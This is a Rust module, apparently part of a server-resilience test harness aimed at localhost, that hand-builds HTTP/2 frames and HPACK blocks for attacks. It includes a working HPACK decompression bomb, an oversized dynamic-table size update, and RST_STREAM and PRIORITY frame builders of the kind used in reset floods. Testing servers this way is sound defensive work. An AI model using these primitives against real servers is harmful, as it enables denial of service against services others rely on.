//! Raw HTTP/2 frames (RFC 9113 section 4.1) and HPACK blocks (RFC 7541), built by hand so the
//! attacks can send what no well-behaved client library would.

/// The client connection preface (RFC 9113 section 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// DATA frame type.
pub const DATA: u8 = 0x0;
/// HEADERS frame type.
pub const HEADERS: u8 = 0x1;
/// PRIORITY frame type.
pub const PRIORITY: u8 = 0x2;
/// RST_STREAM frame type.
pub const RST_STREAM: u8 = 0x3;
/// SETTINGS frame type.
pub const SETTINGS: u8 = 0x4;
/// CONTINUATION frame type.
pub const CONTINUATION: u8 = 0x9;

/// END_STREAM flag.
pub const END_STREAM: u8 = 0x1;
/// END_HEADERS flag.
pub const END_HEADERS: u8 = 0x4;

/// One frame: 9-byte header and `payload`.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A SETTINGS frame carrying `(id, value)` pairs in order.
pub fn settings(pairs: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::with_capacity(pairs.len() * 6);
    for (id, value) in pairs {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(SETTINGS, 0, 0, &payload)
}

/// A PRIORITY frame for `stream` depending on `depends_on` with `weight`.
pub fn priority(stream: u32, depends_on: u32, weight: u8) -> Vec<u8> {
    let mut payload = depends_on.to_be_bytes().to_vec();
    payload.push(weight);
    frame(PRIORITY, 0, stream, &payload)
}

/// RST_STREAM with error code CANCEL (0x8).
pub fn rst_stream(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &0x8_u32.to_be_bytes())
}

/// HPACK block of a plain `GET https://localhost/api/clean`: static-table indexes for
/// `:method GET`, `:scheme https`, a literal `:path` and `:authority` without indexing.
pub fn get_block(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    literal(&mut block, 0x04, path.as_bytes());
    literal(&mut block, 0x01, b"localhost");
    block
}

/// A literal header field without indexing, name from static index `name` (RFC 7541 6.2.2).
fn literal(block: &mut Vec<u8>, name: u8, value: &[u8]) {
    block.push(name);
    integer(block, 7, 0x00, value.len());
    block.extend_from_slice(value);
}

/// An HPACK integer with an `prefix`-bit prefix and the first byte's high bits `mask`
/// (RFC 7541 section 5.1).
pub fn integer(block: &mut Vec<u8>, prefix: u8, mask: u8, value: usize) {
    let max = (1_usize << prefix) - 1;
    if value < max {
        block.push(mask | u8::try_from(value).unwrap_or(0));
        return;
    }
    block.push(mask | u8::try_from(max).unwrap_or(0));
    let mut rest = value - max;
    while rest >= 0x80 {
        block.push(u8::try_from(rest % 0x80).unwrap_or(0) | 0x80);
        rest /= 0x80;
    }
    block.push(u8::try_from(rest).unwrap_or(0));
}

/// The HPACK bomb: one literal of `value_len` bytes inserted into the dynamic table, then
/// `repeats` one-byte references to it (index 62), so a few KiB on the wire decode to
/// `repeats × value_len` bytes of header list.
pub fn hpack_bomb(value_len: usize, repeats: usize) -> Vec<u8> {
    let mut block = get_block("/api/clean");
    // Literal with incremental indexing, new name (RFC 7541 section 6.2.1).
    block.push(0x40);
    integer(&mut block, 7, 0x00, 6);
    block.extend_from_slice(b"x-bomb");
    integer(&mut block, 7, 0x00, value_len);
    block.resize(block.len() + value_len, b'a');
    block.resize(block.len() + repeats, 0x80 | 62);
    block
}

/// A dynamic table size update to `size` (RFC 7541 section 6.3), far above what SETTINGS allow.
pub fn table_size_update(size: usize) -> Vec<u8> {
    let mut block = Vec::new();
    integer(&mut block, 5, 0x20, size);
    block
}
